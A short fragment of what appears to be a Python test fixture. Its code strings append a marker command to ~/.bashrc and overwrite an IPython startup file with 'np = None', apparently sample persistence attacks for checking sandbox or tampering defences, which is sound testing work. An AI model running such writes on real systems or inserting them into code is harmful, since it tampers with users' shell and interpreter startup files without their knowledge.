        "open(os.path.expanduser('~/.bashrc'), 'a').write('touch /tmp/left-by-an-attack')\n"
        "open(os.path.expanduser('~/.ipython/profile_default/startup/00.py'), 'w').write('np = None')"
    ),
}
